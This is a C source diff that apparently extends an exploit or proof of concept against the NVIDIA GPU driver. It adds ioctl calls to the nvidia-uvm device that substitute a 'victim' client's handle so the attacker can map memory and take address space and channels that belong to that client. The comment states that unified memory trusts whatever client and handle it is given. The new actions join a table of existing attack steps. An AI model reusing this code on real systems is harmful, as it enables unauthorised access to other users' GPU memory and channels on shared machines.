@@ -95,6 +95,47 @@ static int registered(void)
 	return !ioctl(device, ESC(ESC_REGISTER_FD, 4), &victim.ctl);
 }
 
+/* Of a request that maps: an address, and the length of the memory. */
+static void put_range(uint8_t *args, uint32_t size)
+{
+	uint64_t range[] = { 0x200000000000ull, MIB };
+
+	if (size == 1200)
+		memcpy(args, range, sizeof(range));
+}
+
+/* Unified memory believes any client and handle that it is told; where they stand is 535's. */
+static int told_uvm(uint32_t request, uint32_t size, uint32_t client_at, uint32_t handle,
+		    uint32_t status_at)
+{
+	uint8_t args[1200] = { 0 };
+	uint32_t owner[] = { victim.client, handle }, status;
+	int uvm = rm_node(own_dir, "nvidia-uvm");
+	long result;
+
+	put_range(args, size);
+	memcpy(args + client_at, owner, sizeof(owner));
+	result = ioctl(uvm, request, args);
+	memcpy(&status, args + status_at, sizeof(status));
+	close(uvm);
+	return !result && status == OK;
+}
+
+static int placed(void)
+{
+	return told_uvm(33, 1200, 0x4a4, MEMORY, 0x4ac);
+}
+
+static int space_taken(void)
+{
+	return told_uvm(25, 32, 0x14, DEVICE_HANDLE, 0x1c);
+}
+
+static int channel_taken(void)
+{
+	return told_uvm(27, 56, 0x14, DEVICE_HANDLE, 0x30);
+}
+
 static const struct deed {
 	const char *name;
 	int (*act)(void);
@@ -107,6 +148,9 @@ static const struct deed {
 	{ "map", mapped },
 	{ "export", exported_to_us },
 	{ "register", registered },
+	{ "place", placed },
+	{ "take-space", space_taken },
+	{ "take-channel", channel_taken },
 	{ }
 };
 
